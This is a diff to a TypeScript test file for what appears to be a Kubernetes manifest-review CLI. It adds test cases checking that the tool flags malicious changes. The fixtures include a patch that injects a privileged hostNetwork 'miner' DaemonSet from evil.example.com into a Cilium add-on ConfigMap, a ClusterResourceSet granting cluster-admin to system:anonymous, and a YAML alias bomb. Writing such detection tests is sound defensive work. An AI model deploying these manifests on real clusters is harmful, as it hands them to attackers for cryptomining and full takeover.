@@ -227,6 +227,47 @@ const RB_CLUSTER_ADMIN = "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBi
 const deployment = (name: string, podSpec: string) =>
   `apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: ${name}\nspec:\n  selector: {matchLabels: {app: ${name}}}\n  template:\n    metadata: {labels: {app: ${name}}}\n    spec:\n      containers: [{name: x, image: example.com/x:1, securityContext: {privileged: true}}]\n${podSpec}\n`;
 
+/** fix-a: a JSON patch adding a privileged hostNetwork DaemonSet to the Cilium add-on's payload. */
+const ADDON_PATCH = [
+  "patches:",
+  "  - target: {kind: ConfigMap, name: demo-addon-cilium-v1.20.2}",
+  "    patch: |",
+  "      - op: add",
+  "        path: /data/zz-extra.yaml",
+  "        value: |",
+  "          apiVersion: apps/v1",
+  "          kind: DaemonSet",
+  "          metadata: {name: miner, namespace: kube-system}",
+  "          spec:",
+  "            selector: {matchLabels: {app: miner}}",
+  "            template:",
+  "              metadata: {labels: {app: miner}}",
+  "              spec:",
+  "                hostNetwork: true",
+  "                containers: [{name: m, image: evil.example.com/miner:latest, securityContext: {privileged: true}}]",
+];
+/** fix-a: a ClusterResourceSet of the cluster layer's own, applying cluster-admin for system:anonymous to demo. */
+const OWN_CRS = [
+  "apiVersion: addons.cluster.x-k8s.io/v1beta2",
+  "kind: ClusterResourceSet",
+  "metadata: {name: pwn}",
+  "spec:",
+  "  clusterSelector: {matchLabels: {cluster.x-k8s.io/cluster-name: demo}}",
+  "  resources: [{kind: ConfigMap, name: pwn}]",
+  "---",
+  "apiVersion: v1",
+  "kind: ConfigMap",
+  "metadata: {name: pwn}",
+  "data:",
+  "  crb.yaml: |",
+  "    apiVersion: rbac.authorization.k8s.io/v1",
+  "    kind: ClusterRoleBinding",
+  "    metadata: {name: anon}",
+  "    roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}",
+  "    subjects: [{kind: Group, name: system:anonymous, apiGroup: rbac.authorization.k8s.io}]",
+  "",
+].join("\n");
+
 const ALIAS_BOMB = ["x-a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]", ..."bcdefghi".split("").map((l, i) => `x-${l}: &${l} [${Array(9).fill(`*${"abcdefghi"[i]}`).join(", ")}]`)].join("\n") + "\n";
 
 /** `import` cases: the manifests (the seed's clusterctl quickstart, changed by `edit`, or given text) in the case's scratch folder. */
@@ -678,6 +719,11 @@ const CASES: Case[] = [
   { surface: "flags", name: "leftovers of a cluster HEAD does not have", setup: gitInit(), args: ["leftovers", "nosuch"], exit: 2, says: ["no cluster nosuch at HEAD", "demo"] },
   { surface: "flags", name: "leftovers --since a ref that does not exist", setup: gitInit(), args: ["leftovers", "--since", "no-such-ref"], exit: 2, says: ["no-such-ref"] },
   { surface: "environment", name: "leftovers outside a git repository", args: ["leftovers"], exit: 2, says: ["git", "not a git repository"] },
+  // --- fix-a: review fixes ---
+  overlay("fix-a 1: a patch adding a DaemonSet to the Cilium add-on ConfigMap", kustomization("resources:", "  - generated", ...ADDON_PATCH), [OVERLAY, "user-layer-addons", "ConfigMap/demo-addon-cilium-v1.20.2:data.zz-extra.yaml", "addons/cilium/v1.20.2/cilium.yaml"]),
+  { surface: "overlay", name: "fix-a 1: diff of a patch changing an add-on ConfigMap", setup: all(gitInit(), kustomization("resources:", "  - generated", ...ADDON_PATCH)), args: ["diff", "--base", "main"], exit: 1, stream: "stdout", says: ["addon-changed", "ConfigMap/demo-addon-cilium-v1.20.2", OVERLAY] },
+  overlay("fix-a 2: an own ClusterResourceSet applying cluster-admin for system:anonymous", all(put("clusters/demo/crs.yaml", OWN_CRS), kustomization("resources:", "  - generated", "  - crs.yaml")), ["clusters/demo/crs.yaml", "user-layer-addons", "ClusterResourceSet/pwn:spec", "ConfigMap/pwn:data"]),
+  { surface: "overlay", name: "fix-a 2: diff of an own ClusterResourceSet", setup: all(gitInit(), put("clusters/demo/crs.yaml", OWN_CRS), kustomization("resources:", "  - generated", "  - crs.yaml")), args: ["diff", "--base", "main"], exit: 1, stream: "stdout", says: ["addon-changed", "ClusterResourceSet/pwn"] },
 ];
 
 // ---------------------------------------------------------------------------------------------------------------
